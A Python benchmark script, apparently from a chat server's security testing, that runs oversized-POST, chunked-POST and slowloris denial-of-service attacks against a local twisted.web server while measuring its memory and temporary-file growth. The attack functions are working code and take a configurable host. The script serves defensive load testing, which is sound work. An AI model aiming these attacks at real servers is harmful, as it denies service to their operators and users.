"""Hostile HTTP clients, and what they cost a running server (issue 12, findings 3 and 5).

Run a server, then one attack against it while this script samples the server's memory and
the temporary files it holds::

    twistd -n --pidfile= chat --store sqlite:/tmp/a.db --listen tcp:8080:interface=127.0.0.1 \\
        --api-key-file keys &
    python bench/attacks/http_attacks.py --port 8080 --pid $! post --size 300M
    python bench/attacks/http_attacks.py --port 8080 --pid $! chunked --size 300M
    python bench/attacks/http_attacks.py --port 8080 --pid $! slowloris --connections 500

``post``: ``POST /api/publish`` without credentials, announcing ``--size`` bytes in
``Content-Length``, then sending them as fast as the server takes them. ``chunked``: the same
size as a chunked ``POST /``. Both stop sending once the server answers. ``slowloris``:
``--connections`` connections, each sending one byte of its request head per second (a head
that would take hours to complete); reports how many are still open each second.

The report: RSS of the server (``VmRSS``) before, at its peak during the attack, and after;
``tmp_bytes``, the bytes of the temporary files the server holds open (twisted.web's spool
files are unlinked at once, so only ``/proc/PID/fd`` sees them) and the growth of the space
used on the /tmp file system; and what the attacker saw. One JSON object on standard output.
Needs Linux (``/proc``). It talks to 127.0.0.1 only.
"""

from __future__ import annotations

import argparse
import json
import os
import selectors
import socket
import threading
import time
from typing import Any

MiB = 1 << 20


def size(text: str) -> int:
    units = {"K": 1 << 10, "M": MiB, "G": 1 << 30}
    scale = units.get(text[-1:].upper(), 1)
    return int(float(text[:-1] if scale > 1 else text) * scale)


def rss(pid: int) -> int:
    """Resident memory of ``pid``, in bytes."""
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) * 1024
    return 0


def tmp_bytes(pid: int) -> int:
    """Bytes of the deleted (spool) files and files under /tmp that ``pid`` holds open."""
    total = 0
    fds = f"/proc/{pid}/fd"
    for fd in os.listdir(fds):
        try:
            target = os.readlink(f"{fds}/{fd}")
            if not (target.startswith("/tmp/") and target.endswith("(deleted)")):
                continue
            total += os.stat(f"{fds}/{fd}").st_size
        except OSError:
            continue
    return total


def tmp_used() -> int:
    stat = os.statvfs("/tmp")
    return (stat.f_blocks - stat.f_bfree) * stat.f_frsize


class Sampler(threading.Thread):
    """Samples the server every 50 ms while an attack runs; keeps the peaks."""

    def __init__(self, pid: int) -> None:
        super().__init__(daemon=True)
        self.pid = pid
        self.done = threading.Event()
        self.peak_rss = rss(pid)
        self.peak_tmp = tmp_bytes(pid)
        self.peak_tmp_used = tmp_used()

    def run(self) -> None:
        while not self.done.wait(0.05):
            try:
                self.peak_rss = max(self.peak_rss, rss(self.pid))
                self.peak_tmp = max(self.peak_tmp, tmp_bytes(self.pid))
                self.peak_tmp_used = max(self.peak_tmp_used, tmp_used())
            except OSError:
                return  # the server is gone


def read_answer(sock: socket.socket, limit: float = 30.0) -> bytes:
    """What the server sent until it closed (or ``limit`` seconds passed)."""
    sock.settimeout(limit)
    answer = b""
    try:
        while chunk := sock.recv(65536):
            answer += chunk
    except (TimeoutError, ConnectionResetError):
        pass
    return answer


def send_body(sock: socket.socket, head: bytes, pieces: Any) -> tuple[int, bytes]:
    """Send ``head`` then ``pieces`` until done or the server answers; (body bytes, answer)."""
    sock.sendall(head)
    sent = 0
    selector = selectors.DefaultSelector()
    selector.register(sock, selectors.EVENT_READ | selectors.EVENT_WRITE)
    sock.setblocking(False)
    pending = b""
    try:
        while True:
            if not pending:
                pending = next(pieces, b"")
                if not pending:
                    break
            events = selector.select(timeout=30)
            if not events:
                break  # neither readable nor writable for 30 s
            if any(mask & selectors.EVENT_READ for _, mask in events):
                break  # the server answered (or closed): stop sending
            try:
                n = sock.send(pending)
            except BlockingIOError:
                continue
            except (BrokenPipeError, ConnectionResetError):
                break
            sent += n
            pending = pending[n:]
    finally:
        selector.close()
        sock.setblocking(True)
    return sent, read_answer(sock)


def attack_post(host: str, port: int, total: int) -> dict[str, Any]:
    head = (
        f"POST /api/publish HTTP/1.1\r\nHost: {host}:{port}\r\n"
        f"Content-Type: application/json\r\nContent-Length: {total}\r\n\r\n"
    ).encode()
    block = b"x" * MiB

    def pieces() -> Any:
        left = total
        while left > 0:
            yield block[: min(left, MiB)]
            left -= MiB

    with socket.create_connection((host, port)) as sock:
        sent, answer = send_body(sock, head, pieces())
    return {"body_bytes_sent": sent, "status": answer.split(b"\r\n", 1)[0].decode(errors="replace")}


def attack_chunked(host: str, port: int, total: int) -> dict[str, Any]:
    head = f"POST / HTTP/1.1\r\nHost: {host}:{port}\r\nTransfer-Encoding: chunked\r\n\r\n".encode()
    chunk = b"%x\r\n" % MiB + b"x" * MiB + b"\r\n"

    def pieces() -> Any:
        for _ in range(total // MiB):
            yield chunk
        yield b"0\r\n\r\n"

    with socket.create_connection((host, port)) as sock:
        sent, answer = send_body(sock, head, pieces())
    return {"wire_bytes_sent": sent, "status": answer.split(b"\r\n", 1)[0].decode(errors="replace")}


def attack_slowloris(
    host: str, port: int, connections: int, duration: float, sampler: Sampler
) -> dict[str, Any]:
    """``connections`` clients sending one head byte per second; open count each second."""
    head = f"GET / HTTP/1.1\r\nHost: {host}:{port}\r\n".encode() + b"X-Padding: " + b"a" * 100_000
    socks = []
    for _ in range(connections):
        sock = socket.create_connection((host, port))
        sock.setblocking(False)
        socks.append(sock)
    offsets = dict.fromkeys(socks, 0)
    open_at: list[int] = []
    answers: dict[str, int] = {}
    start = time.monotonic()
    tick = 0
    while time.monotonic() - start < duration:
        for sock in list(offsets):
            try:
                data = sock.recv(4096)
                if data:
                    status = data.split(b"\r\n", 1)[0].decode(errors="replace")
                    answers[status] = answers.get(status, 0) + 1
                    continue
                del offsets[sock]  # closed by the server
                continue
            except BlockingIOError:
                pass
            except OSError:
                del offsets[sock]
                continue
            try:
                sock.send(head[offsets[sock] : offsets[sock] + 1])
                offsets[sock] += 1
            except OSError:
                del offsets[sock]
        open_at.append(len(offsets))
        tick += 1
        # pacing of the attack itself (one byte per second), not a synchronisation
        time.sleep(max(0.0, start + tick - time.monotonic()))
    rss_with_open = rss(sampler.pid)
    for sock in socks:
        sock.close()
    return {
        "open_each_second": open_at,
        "still_open_at_end": len(offsets),
        "answers": answers,
        "rss_at_end_of_attack": rss_with_open,
    }


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--pid", type=int, required=True, help="the server's process id")
    sub = parser.add_subparsers(dest="attack", required=True)
    for name in ("post", "chunked"):
        sub.add_parser(name).add_argument("--size", type=size, default=300 * MiB)
    slow = sub.add_parser("slowloris")
    slow.add_argument("--connections", type=int, default=500)
    slow.add_argument("--duration", type=float, default=30.0)
    args = parser.parse_args()

    before = {"rss": rss(args.pid), "tmp_bytes": tmp_bytes(args.pid), "tmp_used": tmp_used()}
    sampler = Sampler(args.pid)
    sampler.start()
    started = time.monotonic()
    if args.attack == "post":
        seen = attack_post(args.host, args.port, args.size)
    elif args.attack == "chunked":
        seen = attack_chunked(args.host, args.port, args.size)
    else:
        seen = attack_slowloris(args.host, args.port, args.connections, args.duration, sampler)
    seconds = time.monotonic() - started
    sampler.done.set()
    sampler.join()
    after = {"rss": rss(args.pid), "tmp_bytes": tmp_bytes(args.pid), "tmp_used": tmp_used()}
    report = {
        "attack": args.attack,
        "seconds": round(seconds, 2),
        "attacker_saw": seen,
        "rss_mb": {
            "before": round(before["rss"] / MiB, 1),
            "peak": round(sampler.peak_rss / MiB, 1),
            "after": round(after["rss"] / MiB, 1),
        },
        "server_tmp_files_mb": {
            "before": round(before["tmp_bytes"] / MiB, 1),
            "peak": round(sampler.peak_tmp / MiB, 1),
            "after": round(after["tmp_bytes"] / MiB, 1),
        },
        "tmp_fs_growth_mb": {
            "peak": round((sampler.peak_tmp_used - before["tmp_used"]) / MiB, 1),
            "after": round((after["tmp_used"] - before["tmp_used"]) / MiB, 1),
        },
    }
    if "rss_at_end_of_attack" in seen:
        seen["rss_at_end_of_attack_mb"] = round(seen.pop("rss_at_end_of_attack") / MiB, 1)
    print(json.dumps(report))


if __name__ == "__main__":
    main()
